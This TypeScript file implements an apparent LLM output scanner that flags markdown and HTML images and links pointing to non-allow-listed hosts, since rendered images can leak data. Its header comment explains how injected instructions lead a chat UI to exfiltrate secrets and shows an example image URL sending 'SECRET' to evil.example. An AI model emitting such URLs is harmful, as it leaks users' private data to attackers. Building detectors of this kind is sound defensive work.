// Output scanner: data exfiltration through markdown and HTML in an answer. A chat UI that renders
// `![x](https://evil.example/p?d=SECRET)` fetches the URL without a click, sending whatever the
// injected instructions put in it; a link needs a click. Images (markdown, reference-style and
// <img>) and links to a host outside the allow-list are reported; a URL whose query or path carries
// a long run of data scores higher. Pure; the patterns are linear (no nested quantifiers).
import type { Finding } from '../types.js';
import { hostOf, hostAllowed } from './hosts.js';

export interface ExfilOptions {
  /** Hosts answers may point at: "example.com" allows it and its subdomains. Default: none. */
  readonly allowedHosts?: readonly string[];
}

// ![alt](url "title") and [text](url): the alt/text part has no "]" or newline; the URL no space or ")".
const MD_RE = /(!?)\[[^\]\n]{0,500}\]\(\s{0,8}<?([^\s)<>]{1,4096})>?(?:\s{1,8}"[^"\n]{0,500}")?\s{0,8}\)/g;
// [ref]: url — a reference definition; the image or link that uses it is elsewhere.
const REF_RE = /^[ \t]{0,3}\[[^\]\n]{1,500}\]:[ \t]{0,8}<?([^\s<>]{1,4096})>?/gm;
// <img ... src="url"> (also <image>, <source>, <video>, <audio>, <iframe>: all fetch on render).
const IMG_RE = /<(?:img|image|source|video|audio|iframe)\b[^>]{0,2000}?\bsrc\s{0,8}=\s{0,8}["']?([^\s"'>]{1,4096})/gi;
// An HTML link.
const A_RE = /<a\b[^>]{0,2000}?\bhref\s{0,8}=\s{0,8}["']?([^\s"'>]{1,4096})/gi;

/** A long run of letters, digits and URL-safe characters in the query or path: data, not a route. */
export function carriesData(url: string): boolean {
  const q = url.indexOf('?');
  const tail = q === -1 ? url.slice(url.indexOf('/', url.indexOf('//') + 2) + 1) : url.slice(q + 1);
  let run = 0;
  for (const ch of tail) {
    run = /[A-Za-z0-9%+_=.~-]/.test(ch) ? run + 1 : 0;
    if (run >= 32) return true;
  }
  return false;
}

/** Images and links to hosts outside the allow-list (scanner "output.exfil"; rules "image", "link"). */
export function scanExfil(text: string, options: ExfilOptions = {}): Finding[] {
  const list = options.allowedHosts ?? [];
  const out: Finding[] = [];
  const report = (kind: 'image' | 'link', url: string, start: number, end: number) => {
    const host = hostOf(url);
    if (host === undefined || hostAllowed(host, list)) return;
    const base = kind === 'image' ? 0.9 : 0.6;
    out.push({ scanner: 'output.exfil', rule: kind, score: carriesData(url) ? Math.min(1, base + 0.1) : base, start, end });
  };
  for (const m of text.matchAll(MD_RE)) report(m[1] === '!' ? 'image' : 'link', m[2]!, m.index, m.index + m[0].length);
  // A reference definition may serve an image: treat it as one (it fetches when used by ![x][ref]).
  for (const m of text.matchAll(REF_RE)) report('image', m[1]!, m.index, m.index + m[0].length);
  for (const m of text.matchAll(IMG_RE)) report('image', m[1]!, m.index, m.index + m[0].length);
  for (const m of text.matchAll(A_RE)) report('link', m[1]!, m.index, m.index + m[0].length);
  return out.sort((a, b) => a.start - b.start);
}
